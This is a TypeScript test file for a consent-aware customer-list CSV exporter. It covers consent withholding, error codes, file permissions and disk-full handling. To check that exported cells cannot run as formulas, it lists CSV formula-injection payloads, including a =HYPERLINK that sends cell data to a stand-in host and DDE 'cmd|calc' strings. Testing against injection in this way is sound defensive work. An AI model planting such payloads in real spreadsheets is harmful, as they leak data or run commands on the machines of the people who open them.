import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'vitest';
import { exploreDemo } from '../../test/explored-demo.ts';
import { onEngines } from '../../test/on-engines.ts';
import { formulaStart } from '../sources/index.ts';
import { ident, join as joinSql, sql, type Warehouse } from '../warehouse/index.ts';
import { checkRule } from './check-rule.ts';
import { facts as allFacts } from './facts.ts';
import { previewList, purposesOf } from './list.ts';
import { writeList } from './write-list.ts';

/** Rows of a CSV as RFC 4180 says it, with its quotation marks resolved. */
function csvRows(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const rows: string[][] = [[]];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  for (let match = cells.exec(text); match; match = cells.exec(text)) {
    rows.at(-1)?.push(match[1] === undefined ? (match[2] ?? '') : match[1].replaceAll('""', '"'));
    if (match[3] === '\r\n') rows.push([]);
  }
  expect(rows.pop()).toEqual([]);
  return rows;
}

async function inFolder(work: (path: string, folder: string) => Promise<void>): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'attune-list-'));
  try {
    await work(join(folder, 'list.csv'), folder);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

async function addConsents(
  warehouse: Warehouse,
  words: readonly { customer_id: string; purpose: string; status: string }[],
): Promise<void> {
  await warehouse.createFrom('more', { customer_id: 'text', purpose: 'text', status: 'text' }, words);
  await warehouse.create(
    'all_words',
    sql`select customer_id, purpose, status from consent_status union all select customer_id, purpose, status from more`,
  );
  await warehouse.create('consent_status', sql`select customer_id, purpose, status from all_words`);
}

onEngines('a list for contact holds only who said yes, and counts who is withheld', async (warehouse) => {
  const run = await exploreDemo(warehouse, { customers: 200 });
  const request = { rule: {}, use: 'contact', purpose: 'email_marketing' } as const;
  const before = await previewList(run, request);
  expect(before.matched).toBe(run.summary.customers);
  expect(before.exported + before.withheld.reduce((sum, { customers }) => sum + customers, 0)).toBe(
    before.matched,
  );
  expect(before.exported).toBeGreaterThan(0);

  await inFolder(async (path, folder) => {
    const size = await writeList(run, { ...request, columns: ['orders', 'growth', 'orders'] }, path);
    expect(size).toEqual(before);
    const [head, ...rows] = csvRows(readFileSync(path, 'utf8'));
    expect(head).toEqual([
      ...['customer_id', 'orders', 'growth', 'lifecycle', 'value_cell', 'pattern', 'rfm_segment'],
      ...['past_year_decile', 'use', 'purpose', 'consent', 'as_of'],
    ]);
    expect(rows).toHaveLength(size.exported);
    expect(rows.every((row) => row.slice(8).join() === `contact,email_marketing,given,${run.asOf}`)).toBe(
      true,
    );
    const ids = rows.map(([id]) => id);
    expect(ids).toEqual(ids.toSorted());
    const again = readFileSync(path, 'utf8');
    await writeList(run, { ...request, columns: ['orders', 'growth'] }, path);
    expect(readFileSync(path, 'utf8')).toBe(again);
    expect(readdirSync(folder)).toEqual(['list.csv']);
    expect(statSync(path).mode & 0o077).toBe(0);

    // Withdrawn from everything outweighs a yes to the purpose.
    const [first = '', second = ''] = ids;
    await addConsents(warehouse, [
      { customer_id: first, purpose: 'All', status: 'withdrawn' },
      { customer_id: second, purpose: 'all', status: 'given' },
    ]);
    const after = await writeList(run, request, path);
    expect(after.exported).toBe(before.exported - 1);
    expect(after.withheld).toContainEqual({ reason: 'Withdrawn from all contact', customers: 1 });
    expect(csvRows(readFileSync(path, 'utf8')).some(([id]) => id === first)).toBe(false);

    const dormant = {
      ...request,
      rule: { lifecycle: 'dormant' },
      use: 'analysis',
      purpose: 'Why, =now()?',
    } as const;
    const analysis = await writeList(run, dormant, path);
    expect(analysis).toMatchObject({ matched: run.summary.lifecycle.dormant, withheld: [] });
    const [, ...analysed] = csvRows(readFileSync(path, 'utf8'));
    expect(analysed).toHaveLength(run.summary.lifecycle.dormant);
    expect(analysed.every((row) => row[6] === 'analysis only, do not contact')).toBe(true);
    // Whoever refused all contact stays marked, also where nobody will be contacted.
    for (const [id, ...rest] of analysed)
      expect(rest[7]).toBe(id === first ? 'withdrawn from all contact' : 'none recorded');

    rmSync(path);
    await expect(writeList(run, { ...request, purpose: 'email_marketin' }, path)).rejects.toMatchObject({
      code: 'purpose-unknown',
      remedy: 'Did you mean "email_marketing"?',
    });
    await expect(writeList(run, { ...request, rule: { lifecycle: 'x', y: 1 } }, path)).rejects.toMatchObject({
      code: 'rule-invalid',
    });
    await expect(writeList(run, { ...request, columns: ['email'] }, path)).rejects.toMatchObject({
      code: 'field-unknown',
    });
    await expect(previewList(run, { ...dormant, purpose: ' ' })).rejects.toMatchObject({
      code: 'purpose-unknown',
    });
    await expect(writeList(run, request, join(folder, 'missing', 'list.csv'))).rejects.toMatchObject({
      code: 'output-not-writable',
    });
    expect(existsSync(path)).toBe(false);
  });
  expect((await purposesOf(run)).map(({ purpose }) => purpose)).toContain('email_marketing');
});

onEngines('without consents nobody may be contacted', async (warehouse) => {
  const run = await exploreDemo(warehouse, { customers: 60, files: ['orders.csv', 'customers.csv'] });
  expect(await purposesOf(run)).toEqual([]);
  const request = { rule: {}, use: 'contact', purpose: 'email_marketing' } as const;
  await expect(previewList(run, request)).rejects.toMatchObject({ code: 'consents-missing' });
  expect(await previewList(run, { ...request, use: 'analysis' })).toMatchObject({
    matched: run.summary.customers,
    exported: run.summary.customers,
  });
});

/** Ids and regions as an attacker would write them. */
const hostile = [
  '=HYPERLINK("http://x.example/?q="&A1;"click")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '"=1+1"',
  'a,b"c',
  "'=1+1",
];

onEngines('no text in a list can run as a formula', async (warehouse) => {
  const run = await exploreDemo(warehouse, { customers: 60, files: ['orders.csv', 'customers.csv'] });
  const facts = await warehouse.rows(
    sql`select customer_id as id from customer_facts order by customer_id limit 40`,
    {
      id: 'text',
    },
  );
  await warehouse.createFrom(
    'renamed',
    { customer_id: 'text', as_named: 'text' },
    hostile
      .concat('\tx', '\r=1', 'zwei\nZeilen')
      .map((as_named, i) => ({ customer_id: facts[i]?.id ?? '', as_named })),
  );
  const names = joinSql(
    allFacts
      .filter(({ name }) => name !== 'region')
      .map(({ name }) => sql`f.${ident(name)} as ${ident(name)}`),
  );
  await warehouse.create('facts_as_they_were', sql`select * from customer_facts`);
  await warehouse.create(
    'customer_facts',
    sql`select ${names}, r.as_named as region from facts_as_they_were f left join renamed r on r.customer_id = f.customer_id`,
  );
  await inFolder(async (path) => {
    const size = await writeList(
      run,
      { rule: {}, use: 'analysis', purpose: '=cmd', columns: ['region', 'growth'] },
      path,
    );
    const [, ...rows] = csvRows(readFileSync(path, 'utf8'));
    expect(rows).toHaveLength(size.matched);
    expect(rows.filter((row) => row[1] !== '')).toHaveLength(11);
    for (const row of rows)
      for (const [i, value] of row.entries())
        if (i !== 2 && value !== '') expect(value, value).not.toMatch(new RegExp(formulaStart));
    expect(rows.map((row) => row[1])).toContain("'=1+1");
    // A falling customer's growth is a number, not a text.
    const negative = await checkRule(run, { growth: { $lt: 0 } });
    expect(rows.filter((row) => row[2]?.startsWith('-'))).toHaveLength(negative.customers ?? 0);
  });
});

onEngines('a list that does not fit on the disk is none', async (warehouse) => {
  if (!existsSync('/dev/full')) return;
  const run = await exploreDemo(warehouse, { customers: 60, files: ['orders.csv'] });
  await inFolder(async (path, folder) => {
    // Where it is written until it is whole, there is a disk that is always full.
    symlinkSync('/dev/full', `${path}.part`);
    const request = { rule: {}, use: 'analysis', purpose: 'to see' } as const;
    await expect(writeList(run, request, path)).rejects.toMatchObject({ code: 'output-not-writable' });
    expect(readdirSync(folder)).toEqual([]);
  });
});
